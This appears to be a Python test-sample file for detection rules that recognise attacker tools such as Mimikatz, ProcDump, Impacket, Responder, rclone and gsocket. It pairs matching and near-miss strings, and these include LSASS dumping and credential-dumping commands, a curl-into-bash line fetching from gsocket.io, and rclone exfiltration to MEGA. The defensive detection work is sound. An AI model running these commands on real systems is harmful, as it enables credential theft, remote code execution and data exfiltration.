"""Samples for rules/tool: names, commands and results of tools, cut in pieces."""

from tests.rules.formats import cut, pe, version_info, wide
from tests.rules.sample import Sample, elf

MIMIKATZ = (
    wide("mimi¦katz"),
    wide("Switch to MINI¦DUMP : '%s'"),
    wide("ERROR kuhl¦_m_lsadump_sam"),
)
MIMIKATZ_TEXTS = (
    wide("ERROR kuhl_m_¦sekurlsa_acquireLSA ; Handle on memory (0x%08x)"),
    wide("Authentication Id¦ : %u ; %u (%08x:%08x)"),
    wide("mimikatz(command¦line) # %s"),
)
MIMIKATZ_OUTPUT = (
    "mimi¦katz # sekurlsa¦::logonpasswords\n\nAuthen¦tication Id : 0 ; 996 (00000000:000003e4)\n"
)
HASHES = "".join(
    f"user{number}:{number}:aad3b435b51404ee¦aad3b435b51404ee:{{}}::¦:\n"
    for number in range(1001, 1005)
)
GHOST = (cut("msco¦ree.dll"), wide("asrep¦roast"), wide("/tgt¦deleg"), wide("kerbe¦roast"))
POTATO = (
    wide("SeImperson¦atePrivilege"),
    cut("CreateProcess¦WithTokenW"),
    wide("\\\\%ws\\pi¦pe\\%ws\\pi¦pe\\spoo¦lss"),
)
ADFIND = (
    'adfi¦nd.exe -f "(objectcat¦egory=person)" > ad_users.txt\r\n'
    'adfi¦nd.exe {} "(objectcat¦egory=computer)" > ad_computers.txt\r\n'
)
HOUND = (
    '{"data":[{"Object¦Identifier":"S-1-5-21-1","Prop¦erties":{"domain¦sid":"S-1-5-21"},"Ac¦es":[]}],'
    '"me¦ta":{"methods":0,"ty¦pe":"{}","count":1,"version":5}}'
)
FRP = (
    "[common]\nserver¦_addr = 198.51.100.7\nserver_port = 7000\n\n"
    "[a]\ntype = t¦cp\nlocal_ip = 127.0.0.1\nlocal¦_port = {}\nremote¦_port = 6000\n"
)
RCLONE = (
    cut("github.com/rclone/¦rclone/cmd/copy"),
    cut("github.com/rclone/¦rclone/backend/mega"),
    cut("RCLONE¦_CONFIG"),
)
MEGA = "[m]\ntype = {}\nuser = a@example.org\npass = 0123456789abcdef0123\n"
RESPONDER_LOG = (
    "[*] [LLM¦NR]  Poisoned answer¦ sent to 192.0.2.5 for name wpad\n"
    "[SM¦B] NTLMv2¦-SSP Hash     : user::DOMAIN:1122\n"
)
NETEXEC = "SM¦B         192.0.2.9   445    DC01   [+] example.org\\admin:secret {}\n"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        "Tool_Mimikatz_Binary",
        matching=(pe(*MIMIKATZ),),
        near_miss=(pe(*MIMIKATZ[:2]), b"\0".join(MIMIKATZ)),
        filename="sample.exe",
    ),
    Sample(
        "Tool_Mimikatz_Memory",
        matching=(b"\0\0".join(MIMIKATZ_TEXTS), cut(MIMIKATZ_OUTPUT), wide(MIMIKATZ_OUTPUT)),
        near_miss=(
            b"\0\0".join(MIMIKATZ_TEXTS[:2]),
            cut(MIMIKATZ_OUTPUT.replace("sekurlsa¦::logonpasswords", "exit")),
        ),
        filename="",
    ),
    Sample(
        "Tool_Mimikatz_Commands",
        matching=(cut('a.exe "privilege::¦debug" "sekurlsa::¦logonpasswords" "exit"'),),
        near_miss=(cut('a.exe "privilege::¦debug" "version" "exit"'),),
        filename="history.txt",
    ),
    Sample(
        "Tool_LaZagne_Stealer",
        matching=(pe(cut("laza¦gne.softwares.browsers.mozilla"), cut("laza¦gne.config.run")),),
        near_miss=(pe(cut("laza¦gne.softwares.browsers.mozilla")),),
        filename="sample.exe",
    ),
    Sample(
        "Tool_ProcDump_Lsass",
        matching=(
            cut("proc¦dump64.exe -accepteula -ma ls¦ass.exe C:\\a.dmp"),
            wide("C:\\Users\\Public\\x.exe -accepteula -m¦a ls¦ass.exe a.dmp"),
        ),
        near_miss=(cut("proc¦dump64.exe -accepteula -ma w3wp.exe C:\\a.dmp"),),
        filename="sample.bat",
    ),
    Sample(
        "Tool_Nanodump_Dumper",
        matching=(
            pe(cut("Done, to get¦ the secretz run:"), cut("python3 -m pypy¦katz lsa minidump %s")),
        ),
        near_miss=(pe(cut("python3 -m pypy¦katz lsa minidump %s")),),
        filename="sample.exe",
    ),
    Sample(
        "Tool_HashDump_Output",
        matching=(cut(HASHES.format(*(f"{number:032x}" for number in range(4)))),),
        near_miss=(
            cut(HASHES.format(*["31d6cfe0d16ae931¦b73c59d7e0c089c0"] * 4)),
            cut(HASHES.format(*(f"{number:031x}" for number in range(4)))),
        ),
        filename="ntds.txt",
    ),
    Sample(
        "Tool_GhostPack_Assembly",
        matching=(
            pe(*GHOST),
            pe(GHOST[0], cut("$658c8b7f-3664-4a95¦-9572-a3e5871dfc06")),
            pe(GHOST[0], cut("Seat¦belt.Commands.Windows")),
        ),
        near_miss=(pe(*GHOST[:3]), pe(*GHOST[1:])),
        filename="sample.exe",
    ),
    Sample(
        "Tool_Potato_Escalation",
        matching=(
            pe(*POTATO),
            pe(*POTATO[:2], wide("{4991d34b-80a1-4291¦-83b6-3328366b9097}")),
        ),
        near_miss=(pe(*POTATO[:2]), pe(POTATO[0], POTATO[2])),
        filename="sample.exe",
    ),
    Sample(
        "Tool_Impacket_RemoteCommand",
        matching=(
            wide("cm¦d.exe /Q¦ /c whoami 1> \\\\127.0.0.1\\ADM¦IN$\\__1700000000.123 2>&1"),
            cut(
                "%COM¦SPEC% /Q¦ /c ec¦ho whoami ^> \\\\127.0.0.1\\C$\\__out¦put 2^>^&1 "
                "> %TEMP%\\execute.bat"
            ),
            wide(
                "<Command>cm¦d.exe</Command>\r\n<Argu¦ments>/C whoami &gt; "
                "%windir%\\Te¦mp\\AbCdEfGh.tmp 2&gt;&amp;1</Arguments>"
            ),
        ),
        near_miss=(
            cut("cm¦d.exe /Q¦ /c whoami 1> C:\\logs\\whoami.txt 2>&1"),
            cut("cm¦d.exe /Q¦ /c whoami 1> \\\\127.0.0.1\\ADM¦IN$\\logs 2>&1"),
        ),
        filename="",
    ),
    Sample(
        "Tool_Impacket_Program",
        matching=(
            cut(
                "from impack¦et.dcerpc.v5 import scmr\nfrom impack¦et.smbconnection import S\n"
                "scmr.hRCreate¦ServiceW(dce)\n"
            ),
            elf(cut("impack¦et.examples.secretsdump")),
        ),
        near_miss=(
            cut(
                "from impack¦et.dcerpc.v5 import srvs\nfrom impack¦et.smbconnection import S\n"
                "srvs.hNetrShareEnum(dce)\n"
            ),
        ),
        filename="sample.py",
    ),
    Sample(
        "Tool_PsExec_Service",
        matching=(pe(wide("PSEX¦ESVC"), wide("Sys¦internals"), wide("%s-%d-st¦din")),),
        near_miss=(pe(wide("PSEX¦ESVC"), wide("Sys¦internals")),),
        filename="psexesvc.exe",
    ),
    Sample(
        "Tool_PsExec_Clone",
        matching=(
            pe(cut("\\\\.\\pi¦pe\\RemCom¦_communicaton")),
            pe(wide("RemCom¦Svc"), cut("RemCom¦_stdin")),
        ),
        near_miss=(pe(wide("RemCom¦Svc")), cut("\\\\.\\pi¦pe\\RemCom¦_communicaton")),
        filename="sample.exe",
    ),
    Sample(
        "Tool_NetExec_Program",
        matching=(elf(cut("nxc.proto¦cols.smb")), cut(NETEXEC.format("(Pw¦n3d!)"))),
        near_miss=(cut(NETEXEC.format("(Guest)")),),
        filename="results.log",
    ),
    Sample(
        "Tool_Responder_Poisoner",
        matching=(
            cut(RESPONDER_LOG),
            cut("from poison¦ers.LLMNR import *\nfrom poison¦ers.NBTNS import *\n"),
            cut("[Respon¦der Core]\nSQL = On\nRespond¦To = \n"),
        ),
        near_miss=(
            cut(RESPONDER_LOG.replace("Poisoned answer¦ sent to", "Query from")),
            cut("from poison¦ers.LLMNR import *\n"),
        ),
        filename="sample.log",
    ),
    Sample(
        "Tool_BloodHound_Collector",
        matching=(
            pe(cut("SharpHound¦CommonLib"), cut("Collection¦Methods")),
            cut("function Invoke-Blood¦Hound { Get-Blood¦HoundData }"),
        ),
        near_miss=(pe(cut("SharpHound¦CommonLib")), cut("# see Invoke-Blood¦Hound")),
        filename="sample.exe",
    ),
    Sample(
        "Tool_BloodHound_Data",
        matching=(cut(HOUND.replace("{}", "users")),),
        near_miss=(cut(HOUND.replace("{}", "invoices")),),
        filename="20260101_users.json",
    ),
    Sample(
        "Tool_AdFind_Commands",
        matching=(cut(ADFIND.replace("{}", "-f")),),
        near_miss=(cut(ADFIND.split("\r\n")[0]),),
        filename="adf.bat",
    ),
    Sample(
        "Tool_Peass_Enumeration",
        matching=(
            pe(cut("winP¦EAS.Checks"), cut("winP¦EAS.Helpers")),
            cut('# lin¦peas\nSED_RED¦_YELLOW="x"\nprint_2¦title "Users"\n'),
        ),
        near_miss=(pe(cut("winP¦EAS.Checks")), cut('# lin¦peas\nprint_2¦title "Users"\n')),
        filename="sample.sh",
    ),
    Sample(
        "Tool_PowerSploit_Functions",
        matching=(
            cut("func¦tion Invoke-Mimi¦katz {"),
            cut("func¦tion Get-NetUs¦er {\nfunc¦tion Get-NetComp¦uter {\nfunc¦tion Get-NetG¦PO {"),
        ),
        near_miss=(
            cut(
                "func¦tion Get-NetUs¦er {\nfunc¦tion Get-NetComp¦uter {\nfunc¦tion Get-NetAdapter {"
            ),
        ),
        filename="sample.ps1",
    ),
    Sample(
        "Tool_Scanner_Attack",
        matching=(
            elf(cut("github.com/shadow¦1ng/fscan/Plugins.PortScan")),
            cut("[+] 192.0.2.5 MS17¦-010 (Windows Server)\n[+] 192.0.2.6 MS17¦-010 (Windows 7)\n"),
        ),
        near_miss=(
            cut("github.com/shadow¦1ng/fscan/Plugins.PortScan"),
            cut("[+] 192.0.2.5 open\n[+] 192.0.2.6 open\n"),
        ),
        filename="result.txt",
    ),
    Sample(
        "Tool_Scanner_DualUse",
        matching=(pe(wide("Advanced IP¦ Scanner")),),
        near_miss=(wide("Advanced IP¦ Scanner"),),
        filename="sample.exe",
    ),
    Sample(
        "Tool_Tunnel_GoProxy",
        matching=(
            elf(cut("github.com/jpillora/¦chisel/server")),
            pe(cut("github.com/fatedier/¦frp/client")),
        ),
        near_miss=(
            cut("github.com/jpillora/¦chisel/server"),
            elf(cut("github.com/jpillora/¦backoff")),
        ),
        filename="sample.exe",
    ),
    Sample(
        "Tool_Tunnel_FrpConfig",
        matching=(
            cut(FRP.format(3389)),
            cut(
                'server¦Addr = "198.51.100.7"\n[[proxies]]\nremote¦Port = 60\nplugin = "so¦cks5"\n'
            ),
        ),
        near_miss=(cut(FRP.format(8080)),),
        filename="frpc.ini",
    ),
    Sample(
        "Tool_Tunnel_Commercial",
        matching=(elf(cut("github.com/cloudflare/¦cloudflared/tunnel")),),
        near_miss=(elf(cut("github.com/cloudflare/¦circl/sign")),),
        filename="cloudflared",
    ),
    Sample(
        "Tool_Tunnel_Gsocket",
        matching=(
            cut('GSOCKET¦_ARGS="-k /etc/a.dat -liqD" ex¦ec -a "[kthread]" /usr/bin/a'),
            cut('bash -c "$(curl -fsSL https://gsock¦et.io/x)"'),
            elf(cut("gs-net¦cat"), cut("GSOCKET¦_SECRET"), cut("gs.thc¦.org")),
        ),
        near_miss=(
            cut('GSOCKET¦_ARGS="-T" bash'),
            elf(cut("gs-net¦cat"), cut("GSOCKET¦_SECRET")),
        ),
        filename=".profile",
    ),
    Sample(
        "Tool_Proxychains_Library",
        matching=(elf(cut("PROXYCHAINS¦_CONF_FILE"), cut("[proxy¦chains] ")),),
        near_miss=(elf(cut("PROXYCHAINS¦_CONF_FILE")),),
        filename="libproxychains.so.4",
    ),
    Sample(
        "Tool_Netcat_Windows",
        matching=(pe(cut("inbound program to exec¦ [dangerous!!]")),),
        near_miss=(
            elf(cut("inbound program to exec¦ [dangerous!!]")),
            pe(cut("no port[s]¦ to connect to")),
        ),
        filename="nc.exe",
    ),
    Sample(
        "Tool_Netcat_Linux",
        matching=(
            elf(
                cut("program to exec after¦ connect [dangerous!!]"), cut("UDP listen¦ needs -p arg")
            ),
        ),
        near_miss=(elf(cut("UDP listen¦ needs -p arg")),),
        filename="nc.traditional",
    ),
    Sample(
        "Tool_Rclone_Renamed",
        matching=(pe(*RCLONE), elf(*RCLONE)),
        near_miss=(pe(*RCLONE), elf(*RCLONE)),
        filename="svchost.exe",
        near_miss_filename="rclone-v1.68.exe",
    ),
    Sample(
        "Tool_Rclone_Program",
        matching=(pe(*RCLONE), elf(*RCLONE)),
        near_miss=(pe(*RCLONE[:2]),),
        filename="rclone.exe",
    ),
    Sample(
        "Tool_Rclone_BulkCopy",
        matching=(
            cut(
                'rclone.exe co¦py "\\\\fs01\\D$\\" mega:fs01 -q --ignore¦-existing '
                "--auto¦-confirm --multi-thread¦-streams 12"
            ),
        ),
        near_miss=(cut('rclone.exe co¦py "\\\\fs01\\D$\\" backup:fs01 -q --ignore¦-existing'),),
        filename="sample.bat",
    ),
    Sample(
        "Tool_Rclone_MegaConfig",
        matching=(cut(MEGA.format("me¦ga")),),
        near_miss=(cut(MEGA.format("drive")),),
        filename="rclone.conf",
    ),
    Sample(
        "Tool_Renamed_DualUse",
        matching=(
            pe(version_info("Original¦Filename", "psex¦ec.c")),
            pe(version_info("Original¦Filename", "proc¦dump")),
        ),
        near_miss=(pe(version_info("Original¦Filename", "notepad.exe")),),
        filename="update.exe",
    ),
    Sample(
        "Tool_Renamed_DualUse",
        matching=(pe(version_info("Original¦Filename", "psex¦ec.c")),),
        near_miss=(pe(version_info("Original¦Filename", "psex¦ec.c")),),
        filename="ps.exe",
        near_miss_filename="PsExec64.exe",
    ),
    Sample(
        "Tool_RemoteAccess_DualUse",
        matching=(pe(version_info("Company¦Name", "Any¦Desk Software GmbH")),),
        near_miss=(pe(wide("made for Any¦Desk Software GmbH")),),
        filename="AnyDesk.exe",
    ),
)
